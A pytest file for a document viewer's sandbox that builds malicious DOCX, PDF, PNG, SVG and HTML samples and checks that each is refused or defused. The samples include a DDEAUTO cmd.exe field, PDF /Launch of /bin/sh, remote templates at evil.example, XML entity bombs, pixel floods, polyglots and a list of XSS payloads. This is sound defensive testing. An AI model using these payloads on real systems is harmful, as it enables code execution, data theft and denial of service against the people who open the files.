"""I-12 to I-22 (SECURITY.md section 7): documents made to harm who opens them. Linux only; all of it written here."""

from __future__ import annotations

import dataclasses
import io
import socket
import sys
import threading
import time
import zipfile
import zlib
from pathlib import Path

import lxml.html
import pikepdf
import pytest
from PIL import Image

if sys.platform != "linux":
    pytest.skip("evidence is opened on Linux only", allow_module_level=True)

import contextlib

from inconcert.dossiers.file import read_case
from inconcert.formats import confine, limits, office, pixels
from inconcert.formats.cleaning import text_of
from inconcert.formats.kinds import FileKind, kind_of
from inconcert.model.errors import LimitExceeded, RefusedByCheck, SourceError, UnreadableSource
from inconcert.typeset.to_html import html_of
from inconcert.verbs import dossier

if "network" not in confine.ask("probe", b"", "probe").head["held"]:
    pytest.skip("this system does not let an ordinary user leave the network", allow_module_level=True)

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relations(*rows: tuple[str, str, str]) -> str:
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE_RELS}/{kind}" Target="{target}"{mode}/>'
        for number, (kind, target, mode) in enumerate(rows)
    )
    return f'<Relationships xmlns="{R}">{inside}</Relationships>'


def docx(body: str = "<w:p><w:r><w:t>Statement</w:t></w:r></w:p>", main: str = MAIN, **parts: bytes | str) -> bytes:
    """A small DOCX; further parts by name, with `__` for a slash and `___` for a point."""
    files: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES.format(main),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>',
    }
    files |= {name.replace("___", ".").replace("__", "/"): data for name, data in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def refused(data: bytes, name: str, match: str, kind: type[Exception] = UnreadableSource) -> None:
    """Looking at it, and drawing it, are refused: no page comes out."""
    with pytest.raises(kind, match=match):
        pixels.look(data, name)
    with pytest.raises(SourceError):
        list(pixels.pages(data, name))


def pdf(change=None, pages: int = 1) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(200, 100))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def named(found: tuple[str, ...], word: str) -> bool:
    return any(word in item for item in found)


# the child


def test_what_opens_evidence_has_given_up_the_network_before_the_first_byte():
    """Where the kernel does not take the network away nothing is opened: the child refuses before it reads."""
    caps = confine.Caps(must_hold=(*confine.MUST_HOLD, "something no kernel takes away"))
    with pytest.raises(RefusedByCheck, match="does not take away from a reader: something"):
        confine.ask("probe", b"x", "probe", caps)
    held = confine.ask("probe", b"x", "probe", confine.Caps(must_hold=confine.MUST_HOLD)).head["held"]
    assert set(confine.MUST_HOLD) <= set(held)


def test_a_sound_document_is_drawn_so_that_refusals_mean_something():
    data = docx()
    assert pixels.look(data, "a.docx").kind is FileKind.OFFICE
    if office.program() is None:
        with pytest.raises(RefusedByCheck, match="LibreOffice is not here"):
            list(pixels.pages(data, "a.docx"))
        pytest.skip("LibreOffice is not here; that it is refused then was seen")
    (page,) = pixels.pages(data, "a.docx")
    assert page.width > 1000 and min(page.pixels) < 60, "there is ink on it"


def test_office_without_libreoffice_is_refused_and_never_shown_raw(monkeypatch):
    monkeypatch.setattr(office, "program", lambda: None)
    with pytest.raises(RefusedByCheck, match="LibreOffice is not here"):
        list(pixels.pages(docx(), "a.docx"))


@pytest.mark.skipif(office.program() is None, reason="LibreOffice is not here")
def test_libreoffice_sees_neither_the_network_nor_peoples_files(tmp_path, monkeypatch):
    """A server waits for a visit, and a file lies in a folder that shall be hidden; the child is asked for both."""
    secret = tmp_path / "vault"
    secret.mkdir()
    (secret / "secret.txt").write_text("CANARY")
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    port = server.getsockname()[1]
    spy = (
        "#!/bin/bash\n"
        f"[ -e {secret}/secret.txt ] && exit 9\n"
        'for place in /home /root /srv /mnt; do [ -n "$(ls -A $place 2>/dev/null)" ] && exit 9; done\n'
        "touch /opt/inconcert-spy-was-here 2>/dev/null && exit 9\n"
        '[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 9 ] && exit 9\n'
        f"(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && exit 9\n"
        "printf '%%PDF-seen-nothing' > in.pdf\n"
    )
    place = Path("/opt/inconcert-spy")
    try:
        place.write_text(spy)
        place.chmod(0o755)
    except OSError:
        pytest.skip("this test needs to put a program where LibreOffice could lie")
    try:
        monkeypatch.setattr(office, "program", lambda: str(place))
        assert office.to_pdf(docx(), "a.docx", [secret]) == b"%PDF-seen-nothing"
        with pytest.raises(UnreadableSource):
            place.write_text(spy.replace(str(secret), "/usr/bin").replace("secret.txt", "env"))
            office.to_pdf(docx(), "a.docx", [secret])  # and it tells when it does see something
    finally:
        place.unlink()
        server.close()


# Office


def test_i12_docx_remote_template():
    settings = relations(("attachedTemplate", "http://evil.example/t.dotm", ' TargetMode="External"'))
    refused(docx(word___rels__settings___xml___rels=settings), "a.docx", "fetches from elsewhere")


@pytest.mark.parametrize("kind", ["image", "frame", "oleObject", "subDocument", "aFChunk"])
def test_i12_docx_anything_else_fetched(kind):
    rels = relations((kind, "file://evil.example/share/x", ' TargetMode="External"'))
    refused(docx(word___rels__document___xml___rels=rels), "a.docx", "fetches from elsewhere")


def test_i12_a_link_to_click_is_let_through_for_nobody_clicks_on_pixels():
    rels = relations(("hyperlink", "https://example.org/", ' TargetMode="External"'))
    assert pixels.look(docx(word___rels__document___xml___rels=rels), "a.docx").kind is FileKind.OFFICE


def test_i13_macro_by_part_and_by_type():
    refused(docx(word__vbaProject___bin=b"\xd0\xcf\x11\xe0macro"), "a.docx", "a macro")
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    refused(docx(main=macro), "a.docx", "macro or an active object")


def test_i13_macro_in_an_opendocument():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<a/>")
        archive.writestr("Basic/Standard/Module1.xml", "<a/>")
    refused(out.getvalue(), "a.odt", "a macro")


def test_i14_dtd_in_document_xml():
    bomb = '<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    refused(docx(word__document___xml=bomb), "a.docx", "DTD")
    outside = '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'
    refused(docx(customXml__item1___xml=outside), "a.docx", "DTD")
    refused(docx(word__media__picture___png=outside), "a.docx", "under a name that hides it")


def test_i15_ole_embedding():
    refused(docx(word__embeddings__oleObject1___bin=b"\xd0\xcf\x11\xe0"), "a.docx", "an embedded object")
    rels = relations(("oleObject", "other/x.bin", ""))
    refused(docx(word___rels__document___xml___rels=rels), "a.docx", "an embedded object")


def test_i15_activex():
    refused(docx(word__activeX__activeX1___xml="<a/>"), "a.docx", "ActiveX")


def field(code: str) -> str:
    return f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>"


@pytest.mark.parametrize(
    "body",
    [
        field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        field("DD") + field("E excel"),
        field("INCLUDEPICTURE http://evil.example/t.gif"),
        '<w:p><w:fldSimple w:instr="dde x y"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    ],
)
def test_i15_dde_and_other_fields_that_fetch_also_spread_over_runs(body):
    refused(docx(body), "a.docx", "a field that fetches or runs")


def test_i15_a_workbook_that_links_to_another():
    refused(docx(xl__externalLinks__externalLink1___xml="<a/>"), "a.xlsx", "a link to data elsewhere")


def test_i15_older_office_files_are_never_opened():
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    for data, name in ((old, "a.doc"), (b"{\\rtf1\\objdata}", "a.rtf")):
        with pytest.raises(RefusedByCheck, match="never shown"):
            pixels.look(data, name)
        with pytest.raises(RefusedByCheck, match="no pages to draw"):
            list(pixels.pages(data, name))


# PDF


def with_action(kind: str, **more):
    def change(made):
        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(kind), **more)

    return change


def test_i16_pdf_javascript_is_named_and_never_runs():
    """The page that a script would paint stays white, and what the document holds is said."""
    script = "this.getField('x').fillColor = color.red; app.alert('x');"
    data = pdf(with_action("/JavaScript", JS=pikepdf.String(script)))
    assert named(pixels.look(data, "a.pdf").found, "JavaScript")
    (page,) = pixels.pages(data, "a.pdf")
    assert set(page.pixels) == {255}
    hidden = pdf(lambda made: made.Root.__setattr__("Names", pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())))
    assert named(pixels.look(hidden, "a.pdf").found, "JavaScript")


def test_i16_javascript_inside_a_compressed_object_stream_is_found():
    made = pikepdf.new()
    made.add_blank_page()
    with_action("/JavaScript", JS=pikepdf.String("app.alert(1)"))(made)
    out = io.BytesIO()
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in out.getvalue(), "not to be seen from outside"
    assert named(pixels.look(out.getvalue(), "a.pdf").found, "JavaScript")


def test_i17_pdf_launch_is_named_and_launches_nothing():
    data = pdf(with_action("/Launch", F=pikepdf.String("/bin/sh")))
    assert named(pixels.look(data, "a.pdf").found, "launch")
    assert len(list(pixels.pages(data, "a.pdf"))) == 1


def test_i18_pdf_embedded_file_and_xfa_are_named_and_not_opened():
    def embed(made):
        made.attachments["x.exe"] = b"MZ"

    assert named(pixels.look(pdf(embed), "a.pdf").found, "embedded file")
    xfa = pdf(lambda made: made.Root.__setattr__("AcroForm", pikepdf.Dictionary(XFA=pikepdf.String("<xfa/>"))))
    assert named(pixels.look(xfa, "a.pdf").found, "XFA")


def raw_pdf(*objects: str) -> bytes:
    """A PDF written by hand, so that it may lie."""
    out, places = b"%PDF-1.4\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj {text} endobj\n".encode()
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    return out + f"trailer <</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n".encode()


@pytest.mark.parametrize(
    "tree",
    [
        ("<</Type/Pages/Kids[2 0 R]/Count 1>>",),
        ("<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"),
    ],
)
def test_i18_recursive_page_tree(tree):
    data = raw_pdf("<</Type/Catalog/Pages 2 0 R>>", *tree)
    start = time.monotonic()
    with pytest.raises(SourceError):
        pixels.look(data, "a.pdf")
    with pytest.raises(SourceError):
        list(pixels.pages(data, "a.pdf"))
    assert time.monotonic() - start < 20


def test_i18_a_million_pages_are_limited():
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    said = raw_pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1000000>>", page)
    with contextlib.suppress(SourceError):
        assert len(list(pixels.pages(said, "a.pdf"))) <= 1, "what it says is not what it has"
    kids = " ".join(["3 0 R"] * 1_000_000)
    with pytest.raises((UnreadableSource, LimitExceeded)):
        pixels.look(raw_pdf("<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Kids[{kids}]/Count 1000000>>", page), "a")
    many = pdf(pages=limits.pages_max + 5)
    assert len(list(pixels.pages(many, "a.pdf"))) == limits.pages_max
    assert pixels.look(many, "a.pdf").pages == limits.pages_max + 5, "and how many there are is said"


def test_i18_a_page_of_forty_metres_is_drawn_small():
    def wide(made):
        made.pages[0].MediaBox = [0, 0, 110_000, 110_000]

    (page,) = pixels.pages(pdf(wide), "a.pdf")
    assert page.width * page.height <= limits.page_pixels_max * 1.01


# pictures


def png_that_claims(width: int, height: int) -> bytes:
    def chunk(mark: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + mark + data + zlib.crc32(mark + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes((8, 2, 0, 0, 0))
    body = zlib.compress(bytes(1_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(60_000, 60_000), (2_000_000_000, 2), (8_000, 8_000)])
def test_i19_pixel_flood(size):
    start = time.monotonic()
    refused(png_that_claims(*size), "a.png", "pixels|not a readable", SourceError)
    assert time.monotonic() - start < 20


def test_i19_a_flood_hidden_in_a_later_frame_or_in_a_document():
    frames = [Image.new("L", (10, 10)), Image.new("L", (7_000, 7_000))]
    out = io.BytesIO()
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:], compression="tiff_deflate")
    with pytest.raises(LimitExceeded, match="pixels"):
        list(pixels.pages(out.getvalue(), "a.tiff"))


# markup


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<p style='background:url(//evil.example/t.gif)'>x</p>",
        "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<form action=//evil.example><input name=q></form>",
        "<<script>script>alert(1)<</script>/script>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ],
)
def test_i20_script_in_a_summary_is_cleaned(markup):
    """As words of a page from outside; and as the summary of a case, in every form it is rendered to."""
    plain = text_of(f"<p>A man of <b>Anwe</b></p>{markup}<p>and more</p>")
    assert plain.startswith("A man of Anwe") and plain.endswith("and more")
    assert not any(word in plain for word in ("evil.example", "onerror", "onload", "javascript:", "<img", "<svg"))
    case = read_case(dossier.example(), "example")
    hostile = dataclasses.replace(case, summary=f"A man. {markup}")
    (found, *_) = dossier.render(hostile, dossier.destinations(["GB-HR"]), "2026-03-02")
    page = html_of(found.dossier)
    tree = lxml.html.fromstring(page)
    assert "A man." in page and not tree.xpath("//script | //iframe | //form | //object | //embed | //base")
    assert not tree.xpath("//img | //*[local-name()='svg'] | //@*[starts-with(name(), 'on')]")
    assert not [link for link in tree.xpath("//@href") if link.lower().startswith(("javascript", "//"))]


def test_i20_svg_and_web_pages_are_shown_as_words_only():
    drawing = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><text>words</text></svg>"
    seen = pixels.look(drawing, "a.svg")
    assert seen.kind is FileKind.SVG and "alert" not in seen.text
    with pytest.raises(RefusedByCheck, match="no pages to draw"):
        list(pixels.pages(drawing, "a.svg"))
    page = pixels.look(b"<html><body onload=x()><p>Words</p><script>bad()</script></body></html>", "a.html")
    assert page.text == "Words"


# polyglots


def test_i21_pdf_that_is_a_web_page():
    page = b"<html><script>alert(1)</script></html>"
    for data in (page + pdf(), pdf() + page, pdf().replace(b"\n", b"\n%" + page + b"\n", 1)):
        for name in ("a.pdf", "a.html", "a"):
            refused(data, name, "two kinds|its name says|not a sound|behind the end", SourceError)


def picture(kind: str = "JPEG") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), "green").save(out, kind)
    return out.getvalue()


def test_i21_picture_that_is_an_archive_or_a_pdf():
    refused(picture() + docx(), "a.jpg", "two kinds of file at once", UnreadableSource)
    refused(picture("PNG") + docx(), "a.png", "two kinds of file at once", UnreadableSource)
    refused(picture()[:20] + b"%PDF-1.4" + picture()[20:], "a.jpg", "two kinds of file at once", UnreadableSource)
    refused(pdf() + docx(), "a.pdf", "two kinds of file at once", UnreadableSource)


@pytest.mark.parametrize(
    "name, data",
    [
        ("a.jpg", b"MZ\x90\x00 a program"),
        ("a.pdf", b"<html>"),
        ("a.docx", b"%PDF-1.4\n%%EOF"),
        ("a.txt", b"\x89PNG\r\n\x1a\n"),
        ("a.png", b"\xff\xd8\xff\xe0"),
        ("a.eml", b"PK\x03\x04"),
        ("a.pdf", b"plain words"),
    ],
)
def test_i21_extension_and_content_differ(name, data):
    with pytest.raises(UnreadableSource, match="its name says|two kinds"):
        kind_of(data, name)


def test_a_document_that_kills_its_reader_kills_nothing_else(monkeypatch):
    """Random changes to a sound PDF: each is drawn or refused, and this process lives on."""
    import random

    chance, data = random.Random(12), bytearray(pdf(with_action("/JavaScript", JS=pikepdf.String("x")), 3))
    before = threading.active_count()
    for _ in range(12):
        changed = bytearray(data)
        for _ in range(8):
            changed[chance.randrange(8, len(data) - 8)] = chance.randrange(256)
        with contextlib.suppress(SourceError):
            assert all(len(page.pixels) == 3 * page.width * page.height for page in pixels.pages(bytes(changed), "a"))
    assert threading.active_count() == before
